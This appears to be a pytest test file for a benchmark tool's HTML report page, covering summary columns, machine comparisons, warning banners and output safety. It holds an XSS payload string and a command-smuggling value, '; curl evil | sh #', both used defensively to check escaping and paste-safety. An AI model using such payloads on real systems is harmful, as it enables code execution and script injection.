"""The page of a report: its numbers are those of the summaries, texts of files are data, and it loads nothing."""

import base64
import gzip
import hashlib
import json
import re
from html import unescape
from pathlib import Path

import pytest

import deepbench
from deepbench.core import units
from deepbench.core.errors import BadInput
from deepbench.judge import compare
from deepbench.networks import api as networks
from deepbench.reporting.page import content, render
from deepbench.reporting.page.report import write_report
from deepbench.results import published
from deepbench.results.file import ResultFile, read_results
from deepbench.results.summary import summarize
from tests.help import predicted, samples

HOSTILE = "</script><script>alert(1)</script><img src=x onerror=alert(1)>=cmd"


def file(records, cases=()):
    return ResultFile(Path("mine.jsonl"), samples.header(list(cases)), records)


def embedded_in(html):
    return json.loads(re.search(r'<script type="application/json" id="content">(.*?)</script>', html, re.S)[1])


def test_columns_are_the_numbers_of_the_summaries():
    text = "gemm m=4 n={} k=4 a_t=0 b_t=0 forward f32 {} threads=1"
    records = [
        samples.measured(b, s * n, text=text.format(n, b))
        for n in (1, 2)
        for b, s in (("mkl", 1e-3), ("openblas", 2e-3))
    ]
    data = content.of_file(file(records), "mine")
    summaries = summarize(records)

    assert [s.estimate.time_s for s in summaries] == data["columns"]["time_s"]
    assert [s.flop_per_s for s in summaries] == data["columns"]["flop_per_s"]
    assert ["fastest", None, "fastest", None] == data["columns"]["position"]
    assert ["gemm m=4 k=4 a_t=0 b_t=0"] * 4 == data["columns"]["family"]
    assert [1, 1, 2, 2] == data["columns"]["size"]
    assert "gemm: MKL 2" in " ".join(data["sentences"])
    assert len(records) == len(data["samples"])
    assert [4] * 4 == data["fields"]["m"]
    assert [1, 1, 2, 2] == data["fields"]["n"]


def test_no_library_is_the_fastest_where_a_disturbed_time_leaves_it_open():
    text = "gemm m=4 n=1 k=4 a_t=0 b_t=0 forward f32 {} threads=1"
    quiet = samples.measured("mkl", 1e-3, text=text.format("mkl"))
    disturbed = samples.disturbed("openblas", 2e-3, text=text.format("openblas"))

    assert ["open", None] == content.of_file(file([quiet, disturbed]), "mine")["columns"]["position"]


def test_fields_of_other_operations_are_missing():
    conv = "conv n=1 c=2 h=5 w=5 k=3 r=3 s=3 forward f32 onednn threads=1"
    data = content.of_file(file([samples.measured(), samples.measured(text=conv)]), "mine")

    assert [3, 1] == data["fields"]["n"]
    assert [2, None] == data["fields"]["m"]
    assert [None, 5] == data["fields"]["h"]


def test_published_machines_have_fields_too():
    fields = of_machine("NVIDIA T4")["fields"]

    assert [5124, 700, 2048] == [fields[name][0] for name in "mnk"]


def test_a_command_is_offered_only_for_words_that_are_safe_to_paste():
    good, bad = samples.measured(), samples.measured(seconds=2e-3)
    bad["case"] += "; curl evil | sh #"
    data = content.of_file(file([good, bad]), "mine")

    assert [f"deepbench run {good['case']}", None] == data["columns"]["command"]


def test_a_cpu_and_a_gpu_do_not_compete():
    text = "gemm m=64 n=64 k=64 a_t=0 b_t=0 forward f32 {} threads=1"
    records = [samples.measured(b, s, text=text.format(b)) for b, s in (("mkl", 1e-3), ("cublas", 1e-6))]
    data = content.of_file(file(records), "mine")

    assert ["cpu", "cuda"] == data["columns"]["device"]
    assert ["only", "only"] == data["columns"]["position"]  # they do not compete
    assert [("cpu", 1), ("cuda", 1)] == [(place["device"], place["threads"]) for place in data["limits"]]
    assert [{}, {}] == [place["peaks"] for place in data["limits"]]  # no probe, so no limit
    text = " ".join(data["sentences"])
    assert "on the CPU: " in text
    assert "on the GPU: " in text


def test_an_interval_of_one_process_is_marked():
    one = content.of_file(file([samples.measured()]), "mine")
    two = content.of_file(file([samples.measured(), samples.measured()]), "mine")

    assert ["one process"] == one["columns"]["interval_of"]
    assert any("one process only" in text for text in one["sentences"])
    assert ["processes"] == two["columns"]["interval_of"]


def test_variants_are_one_family():
    text = "all_reduce n={} ranks=2 forward f32 openmpi threads=1{}"
    records = [
        samples.measured("openmpi", 1e-3, text=text.format(n, w)) for n, w in ((10, " algorithm=ring"), (100, ""))
    ]

    assert 1 == len(set(content.of_file(file(records), "mine")["columns"]["family"]))


def test_a_comparison_takes_drift_between_sessions_into_account(monkeypatch, tmp_path):
    def runs(seconds):
        records = [samples.measured(seconds=seconds * (1 + 0.001 * i)) for i in range(5)]
        return file([{**r, "round": i} for i, r in enumerate(records, 1)])

    data = runs(1e-3), runs(1.04e-3)
    assert "slower" == content.of_pair(*data, ("a", "b"))["cases"][0]["verdict"]
    monkeypatch.setattr(content.selftest, "between_files", lambda a, b: 0.03)
    assert "cannot tell" == content.of_pair(*data, ("a", "b"))["cases"][0]["verdict"]


def test_samples_are_thinned_and_keep_their_order():
    assert [0.0, 3.0, 6.0, 9.0] == content._thinned([float(i) for i in range(10)], 4)
    assert [1.0] == content._thinned([1.0], 4)


def test_a_page_holds_hostile_texts_as_data_only():
    pytest.importorskip("jinja2", reason="a page needs Jinja2: pip install jinja2")
    bad = samples.failed("crashed", HOSTILE)
    bad["problem"] = {"m": 1, HOSTILE: 2}
    header = samples.header()
    header["machine"]["cpu"] = HOSTILE
    data = ResultFile(Path("mine.jsonl"), header, [bad, samples.measured()])
    html = render.page({"files": [content.of_file(data, HOSTILE)], "pairs": []}, HOSTILE).decode()

    scripts = re.findall(r"<script[^>]*>", html)
    # The data, Plotly and ours; what a stranger wrote opened none.
    assert 2 + len(render.SCRIPTS) == len([s for s in scripts if "alert" not in s]) == len(scripts)
    assert "<img" not in html
    assert HOSTILE == embedded_in(html)["files"][0]["name"]


def test_the_page_of_a_small_file_is_below_one_megabyte_and_allows_the_plotly_that_it_holds(tmp_path):
    pytest.importorskip("jinja2", reason="a page needs Jinja2: pip install jinja2")
    write_report([file([samples.measured()])], [], tmp_path / "a.html", None)
    html = unescape((tmp_path / "a.html").read_text())
    packed = re.search(r'<script type="application/gzip" id="plotly">([^<]+)</script>', html)[1]
    script = gzip.decompress(base64.b64decode(packed))

    assert 1_000_000 > len(html)
    assert b"plotly.js (basic" in script[:100]
    assert f"'sha256-{base64.b64encode(hashlib.sha256(script).digest()).decode()}'" in html


def test_the_policy_names_each_script_by_its_hash():
    policy = render.policy(["a", "b"])

    assert "default-src 'none'" in policy
    assert 2 == policy.count("sha256-")
    assert "unsafe-eval" not in policy
    assert "unsafe-inline" not in policy.split("style-src")[0]


def test_two_files_are_compared():
    a, b = (file([samples.measured(seconds=s, round_number=i) for i in range(1, 6)]) for s in (1e-3, 2e-3))
    data = content.of_pair(a, b, ("a", "b"))

    assert data["cases"][0]["ratio"] == pytest.approx(2.0)
    assert compare.compare_files(a, b).cases[0].case == data["cases"][0]["case"]
    nothing = content.of_pair(a, file([samples.measured("openblas")]), ("a", "b"))
    assert "no measured case in common" in nothing["heading"][0]


# ---- the first screen

TEXT = "gemm m={} n=64 k=64 a_t=0 b_t=0 forward f32 {} threads=1"
SERVER = "NVIDIA TitanXp"


def first(records, limits=(), header=None, **more):
    found = ResultFile(Path("mine.jsonl"), header or samples.header(), records, list(limits), **more)
    return content.of_file(found, "mine")["first"]


def titles(screen):
    return [banner["title"] for banner in screen["banners"]]


def test_the_first_screen_names_machine_date_and_version():
    header = samples.header()
    ids = {"cpu family": "25", "model": "1", "stepping": "2", "microcode": "0x1"}
    header["machine"] |= {"cpu_ids": ids, "microarchitecture": "Zen 3", "hypervisor": True, "cores_allowed": 2}
    facts = dict(first([samples.measured()], header=header)["facts"])

    assert "A CPU, Zen 3, family 25 model 1 stepping 2, 2 cores" == facts["Processor"]
    assert "virtual machine" == facts["Machine"]
    assert "2026-11-21 00:00 UTC, default mode" == facts["Measured"]
    assert "deepbench test" == facts["Version"]
    unknown = dict(first([samples.measured()])["facts"])
    assert ("A CPU", None) == (unknown["Processor"], unknown["Machine"])


@pytest.mark.parametrize("value", [{"cpu family": {"a": 1}}, ["x"], "text", 7, None])
def test_facts_of_any_type_do_no_harm(value):
    header = samples.header()
    names = ("cpu_ids", "hypervisor", "microarchitecture", "load_1min", "cores_allowed")
    header["machine"] |= dict.fromkeys(names, value)

    assert "Processor" in dict(first([samples.measured()], header=header)["facts"])


def test_four_numbers_are_limits_or_else_rates_of_products_or_else_missing():
    read = {"what": "memory", "device": "cpu", "kind": "read", "bytes": 2**29, "bytes_per_s": 2e10, "threads": 1}
    read |= {"case": "memory", "seconds": 0.1, "at": "2026-11-21T00:00:00+00:00", "disturbed": True}
    low = "gemm m=64 n=64 k=64 a_t=0 b_t=0 forward {} mkl threads=1"
    records = [samples.measured(text=TEXT.format(64, "mkl")), samples.measured(text=low.format("i8u8"), seconds=1e-6)]
    f32, half, eight, memory = first(records, [samples.peak(2e12), read])["tiles"]

    assert ("Peak rate, f32", "2.00", "TFLOP/s", None) == tuple(f32[n] for n in ("label", "value", "unit", "mark"))
    assert ("Peak rate, 16 bits", "–", "not measured") == tuple(half[n] for n in ("label", "value", "note"))
    # Any library can convert smaller types to f32, so the peak of f32 is the least of theirs.
    assert ("Peak rate, i8u8", "2.00", "TOP/s") == tuple(eight[n] for n in ("label", "value", "unit"))
    assert ("20.0", "GB/s", "probe disturbed") == tuple(memory[n] for n in ("value", "unit", "mark"))


def test_without_limits_the_highest_undisturbed_product_counts():
    records = [samples.measured(text=TEXT.format(64, "mkl")), samples.disturbed(text=TEXT.format(640, "mkl"))]
    tiles = first(records)["tiles"]

    rate = 2 * 64**3 / 1e-3
    assert ("Highest rate, f32", units.significant(rate / 1e9)) == (tiles[0]["label"], tiles[0]["value"])
    assert ["–"] * 3 == [tile["value"] for tile in tiles[1:]]
    assert [] == first([])["tiles"]


def test_banners_say_why_a_run_is_not_to_be_trusted():
    text = TEXT.format(64, "mkl")
    three = [samples.measured(text=text, round_number=i) for i in (1, 2, 3)]
    assert [] == titles(first(three, header=samples.header([text])))
    assert ["Incomplete"] == titles(first(three, header=samples.header([text, TEXT.format(8, "mkl")])))
    assert ["One process per case"] == titles(first(three[:1]))
    assert ["Damaged file", "Cut off"] == titles(first(three, damaged=[7], truncated=True))
    assert ["Disturbed"] == titles(first([{**samples.disturbed(text=text), "round": i} for i in (1, 2, 3)]))
    busy = samples.header()
    busy["machine"] |= {"load_1min": 7.5, "cores_allowed": 2}
    assert ["Busy machine"] == titles(first(three, header=busy))
    assert "Unchecked" in titles(first([samples.measured(status="unchecked")]))


def test_a_page_says_whether_its_file_is_good_enough_to_publish():
    publishable = first([samples.measured()])["publishable"]

    assert publishable["title"].startswith("Not good enough to publish: ")
    assert " reason" in publishable["title"]
    assert any("fewer than 3 rounds" in text for text in publishable["texts"])
    assert of_machine("NVIDIA Tesla V100")["first"]["publishable"] is None


def test_problems_won_undecided_and_disturbed_are_counted_apart():
    records = []
    for m, factor in ((8, 2.0), (16, 1.0), (32, 0.5), (64, 3.0)):
        for backend, seconds in (("mkl", 1e-3), ("openblas", factor * 1e-3)):
            make = samples.disturbed if (m, backend) == (64, "mkl") else samples.measured
            records.append(make(backend, seconds, text=TEXT.format(m, backend)))
    records.append(samples.measured("onednn", text="conv n=1 c=2 h=5 w=5 k=3 r=3 s=3 forward f32 onednn threads=1"))
    (row,) = first(records)["winners"]

    assert ("gemm", 4, 1, 1) == tuple(row[name] for name in ("op", "problems", "undecided", "disturbed"))
    assert {("MKL", 1), ("OpenBLAS", 1)} == set(row["wins"])


def test_the_kernels_furthest_from_their_limit_are_undisturbed_and_fastest():
    records = [
        samples.measured(seconds=1e-3 / m, text=TEXT.format(m, "mkl")) for m in (4, 8, 16, 32, 64, 128, 256, 2, 3, 5, 6)
    ]
    records.append(samples.measured("openblas", 1.0, text=TEXT.format(4, "openblas")))  # not the fastest
    records.append(samples.disturbed(seconds=1.0, text=TEXT.format(512, "mkl")))
    kernels = first(records, [samples.peak(1e12)])["furthest"]

    assert [7, 8, 0, 9, 10, 1, 2, 3, 4, 5] == [kernel["row"] for kernel in kernels]  # ten of eleven
    assert sorted(k["share"] for k in kernels) == [k["share"] for k in kernels]
    assert "gemm 2 × 64 × 64 NN" == kernels[0]["title"]
    assert "No limit explains half of the time: compute 0 %" in kernels[0]["why"]
    assert [] == first(records)["furthest"]  # no limit is known


def cells(records, machine=SERVER):
    return next((m["common"] for m in first(records)["machines"] if m["name"] == machine), None)


def of_machine(name):
    return content.of_file(published.load(name), name)


def published_times():
    rows = {r["sources"][0]["row"] for r in samples.ocr()}
    results = [r for s in published.summaries(SERVER) for r in [s.record] if r["op"] == "conv"]
    found = {
        source["row"]: r["measurement"]["samples_s"][0]
        for r in results
        for source in r["sources"]
        if source["suite"] == "deepbench/server" and source["row"] in rows and r["precision"] == "i8"
    }
    return [found[row] for row in sorted(rows)]


def test_an_application_is_compared_over_the_kernels_that_both_have():
    times = published_times()
    assert 4 == len(times)
    ((ratio, compared, disturbed),) = cells(samples.ocr(seconds=1e-3))
    assert (pytest.approx(sum(times) / 4e-3, rel=1e-3), 4, 0) == (ratio, compared, disturbed)

    one, *others = samples.ocr(seconds=1e-3)
    assert [(pytest.approx(sum(times[1:]) / 3e-3, rel=1e-3), 3, 0)] == cells(others)
    one = {**samples.disturbed(text=one["case"]), "sources": one["sources"]}
    assert [(pytest.approx(sum(times[1:]) / 3e-3, rel=1e-3), 3, 1)] == cells([one, *others])


def test_there_is_no_ratio_of_other_precisions_sizes_or_settings_or_of_mostly_disturbed_times():
    assert [None] == cells(samples.ocr("f32"))
    other = samples.ocr()
    for r in other:
        r["sources"] = [{**r["sources"][0], "row": r["sources"][0]["row"] % 10 + 7}]
    assert [None] == cells(other)
    biased = [{**samples.measured(text=f"{r['case']} bias=yes"), "sources": r["sources"]} for r in samples.ocr()]
    assert [None] == cells(biased)
    noisy = [{**samples.disturbed(text=r["case"]), "sources": r["sources"]} for r in samples.ocr()]
    assert [(None, 0, 4)] == cells(noisy)


def test_totals_of_published_machines_count_what_the_suite_lists():
    totals = of_machine("NVIDIA Tesla V100")["applications"]
    whole = {(t["suite"], t["application"], t["precision"]) for t in totals if t["measured"] == t["kernels"]}

    assert ("deepbench/train", "OCR", "f32") in whole
    assert all(0 < t["measured"] <= t["kernels"] for t in totals)
    # AMD published no gradients of weights of recurrent layers, so such a total is not whole.
    of_amd = of_machine("AMD MI25")["applications"]
    (translation,) = [t for t in of_amd if (t["application"], t["precision"]) == ("Machine Translation", "f32")]
    assert 2 * translation["measured"] == translation["kernels"]


def test_published_machines_have_a_first_screen_and_are_compared_with_each_other():
    data = of_machine("NVIDIA Tesla V100")
    screen = data["first"]

    assert ["Unchecked"] == titles(screen)
    assert ["–"] == [tile["value"] for tile in screen["tiles"]][3:]
    assert "112" in [tile["value"] for tile in screen["tiles"]]
    (p100,) = [m for m in screen["machines"] if m["name"] == "NVIDIA Tesla P100"]
    ratios = [cell[0] for cell in p100["common"] if cell]
    assert ratios
    assert all(ratio > 1 for ratio in ratios)
    assert "NVIDIA Tesla V100" not in [m["name"] for m in screen["machines"]]


def test_the_data_of_a_first_screen_stay_small():
    def size(count):
        records = [samples.measured(text=TEXT.format(m, "mkl")) for m in range(1, count)]
        return len(json.dumps(first(records + samples.ocr())))

    assert size(200) < size(20) + 200


def test_a_page_has_the_training_steps_of_a_file_by_devices():
    records = [*samples.kernels_of_steps(1, 2, 4), *samples.all_reduce(2, 2e-3)]
    (found,) = content.of_file(ResultFile(Path("one.jsonl"), samples.header(), records), "one")["steps"]

    assert "Sentiment CNN, train, batch 128, f32, 1 thread" == found["title"]
    assert [1, 2, 4] == [step["devices"] for step in found["steps"]]
    assert [None, None] == [found["steps"][0]["all_reduce"], found["steps"][2]["one_after_the_other"]]


def step_of(tmp_path, *records):
    """The step of the network as a page draws it: its bars by name, and its sentences."""
    samples.write(tmp_path / "k.jsonl", records)
    (found,) = content.of_file(read_results(tmp_path / "k.jsonl"), "k", networks.steps_of([predicted.network()]))[
        "networks"
    ]
    return {bar["name"]: bar for bar in found["bars"]}, " ".join(found["remarks"])


def test_a_page_has_the_predicted_step_next_to_the_measured_one(tmp_path):
    bars, remarks = step_of(tmp_path, *predicted.kernels(), predicted.step(2.1e-3))

    assert ["predicted", "measured"] == list(bars)
    assert sum(bars["predicted"]["parts"].values()) == pytest.approx(bars["predicted"]["seconds"])
    assert (2.02e-3, 2.1e-3) == pytest.approx((bars["predicted"]["seconds"], bars["measured"]["seconds"]), rel=2e-3)
    assert bars["predicted"]["low_s"] < 2.02e-3 < bars["predicted"]["high_s"]
    assert remarks.startswith("net, batch 4, training step, 1 thread. Error: -3.8 %")


def test_a_page_says_what_faster_libraries_would_save(tmp_path):
    bars, remarks = step_of(tmp_path, *predicted.kernels(), *predicted.kernels("onednn", 0.4e-3))

    assert bars["fastest library of each kernel"]["seconds"] == pytest.approx(0.82e-3, rel=2e-3)
    assert "2.46 times as fast: onednn for 1 kernel" in remarks


def test_a_page_withholds_the_error_of_a_step_that_other_programs_disturbed(tmp_path):
    noisy = predicted.kernels(make=samples.disturbed)
    bars, remarks = step_of(tmp_path, *noisy, predicted.step(2.1e-3))

    assert (True, None) == (bars["predicted"]["disturbed"], bars["predicted"]["low_s"])
    assert "Error: withheld, because other programs disturbed" in remarks
    assert "%" not in remarks.partition("Error:")[2].partition(".")[0]


def test_a_step_without_all_kernels_has_no_predicted_bar(tmp_path):
    records = [record for record in predicted.kernels() if record["op"] != "gemm"]
    bars, remarks = step_of(tmp_path, *records, predicted.step(2.1e-3))

    assert ["measured"] == list(bars)
    assert "No predicted time: 1 kernel has no time." in remarks


def test_files_without_kernels_of_a_network_have_no_step_of_it(tmp_path):
    samples.write(tmp_path / "k.jsonl", [samples.measured()])

    assert (
        []
        == content.of_file(read_results(tmp_path / "k.jsonl"), "k", networks.steps_of([predicted.network()]))[
            "networks"
        ]
    )


def test_a_page_compares_with_a_published_machine_by_a_part_of_its_name(tmp_path):
    """In the sentence above the ratios, the machine has its whole name."""
    mine = samples.write(tmp_path / "mine.jsonl", samples.ocr())
    deepbench.report(mine, tmp_path / "page.html", against=["1080"])

    assert "time of NVIDIA GTX 1080 Ti compared with time of mine.jsonl" in (tmp_path / "page.html").read_text()
    with pytest.raises(BadInput, match="is not a published machine"):
        deepbench.report(mine, tmp_path / "page.html", against=["abacus"])


def test_disturbed_times_are_on_pages_of_two_files_and_of_published_machines(tmp_path):
    text = "gemm m=5124 n=700 k=2048 a_t=0 b_t=0 forward i8 mkl threads=2"
    for name in "ab":
        samples.write(tmp_path / f"{name}.jsonl", [samples.disturbed(seconds=0.2, text=text)])
    deepbench.report([tmp_path / "a.jsonl", tmp_path / "b.jsonl", "T4"], tmp_path / "page.html")
    pairs = embedded_in((tmp_path / "page.html").read_text())["pairs"]

    assert ["b.jsonl", "NVIDIA T4", "NVIDIA T4"] == [pair["second"] for pair in pairs]
    assert all(isinstance(pair["cases"][0]["first"], float) for pair in pairs)


def test_published_machines_are_named_like_files(tmp_path):
    mine = str(samples.write(tmp_path / "mine.jsonl", samples.ocr()))
    deepbench.report([mine, "V100", "1080"], tmp_path / "page.html", against=["NVIDIA Tesla V100"])
    html = (tmp_path / "page.html").read_text()
    data = embedded_in(html)

    assert ["NVIDIA Tesla V100", "NVIDIA GTX 1080 Ti"] == [pair["second"] for pair in data["pairs"]]
    assert ["NVIDIA Tesla V100", "NVIDIA GTX 1080 Ti"] == data["preset"]["machines"]
    # Also one without a common application is listed.
    assert {"NVIDIA Tesla V100", "NVIDIA GTX 1080 Ti"} <= {m["name"] for m in data["files"][0]["first"]["machines"]}
    deepbench.report(["T4", "V100"], tmp_path / "page.html")
    data = embedded_in((tmp_path / "page.html").read_text())
    assert ["NVIDIA T4"] == [found["name"] for found in data["files"]]
    assert "NVIDIA Tesla V100 " in " ".join(data["pairs"][0]["heading"])


def test_an_application_and_prices_are_preset_by_parts_of_their_names(tmp_path):
    mine = str(samples.write(tmp_path / "mine.jsonl", samples.ocr()))
    prices = {"mine": 2.5, "1080": 0.3}
    deepbench.report(mine, tmp_path / "page.html", application="oc", prices=prices)
    data = embedded_in((tmp_path / "page.html").read_text())

    assert {"mine.jsonl": 2.5, "NVIDIA GTX 1080 Ti": 0.3} == data["preset"]["prices"]
    assert ["OCR (server)"] == data["preset"]["titles"]
    for wrong, sentence in (
        ({"application": "chess"}, "no machine has a time of application 'chess'; there are OCR"),
        ({"prices": {"cray": 1.0}}, "--price names none of mine.jsonl, "),
    ):
        with pytest.raises(BadInput, match=sentence):
            deepbench.report(mine, tmp_path / "page.html", **wrong)


def test_the_file_of_a_published_machine_has_its_name(tmp_path):
    mine = samples.write(tmp_path / "mine.jsonl", samples.ocr())
    write_report([read_results(mine), published.load("NVIDIA T4")], [], tmp_path / "two.html", None)
    data = embedded_in((tmp_path / "two.html").read_text())

    assert ["mine.jsonl", "NVIDIA T4"] == [found["name"] for found in data["files"]]
    assert "NVIDIA T4" not in [machine["name"] for machine in data["files"][1]["first"]["machines"]]
